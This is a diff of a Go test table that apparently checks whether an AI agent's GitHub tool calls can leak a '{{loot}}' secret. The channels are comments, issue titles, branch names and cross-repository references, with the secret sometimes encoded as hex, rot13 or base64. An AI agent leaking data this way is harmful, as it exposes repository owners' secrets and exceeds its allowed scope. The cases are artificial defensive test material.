@@ -63,7 +63,9 @@ func (w *stage) sinks(t *testing.T) {
 		{name: "dry run", text: on("create_comment", `"number":1,"body":"{{loot}}","dry_run":true`)},
 		{name: "many ways at once", text: comment("{{loot}}") + on("create_issue", `"title":"{{loot:hex}}"`) + on("create_branch", `"branch":"agent/{{loot:rot13}}"`) + comment("{{loot:base64}}")},
 		{name: "a repository that the members of a site see", text: order("create_comment", `"owner":"guild","repo":"workshop","number":1,"body":"{{loot}}"`)},
-		{name: "a fork that fewer see", text: order("create_branch", `"owner":"cellar","repo":"noticeboard","branch":"agent/{{loot}}"`)},
+		{name: "a private repository that the world sees a part of", text: order("create_comment", `"owner":"acme","repo":"ajar","number":1,"body":"{{loot}}"`)},
+		{name: "the same, in a name", text: order("create_branch", `"owner":"acme","repo":"ajar","branch":"agent/{{loot}}"`)},
+		{name: "a reference to it", text: order("create_comment", `"owner":"acme","repo":"playground","number":1,"body":"{{loot}} acme/ajar#1"`)},
 
 		// Nobody let the agent write there at all.
 		{"the attacker's repository", order("create_issue", `"owner":"outsider","repo":"lure","title":"{{loot}}"`), "not_whitelisted", byWhitelist},
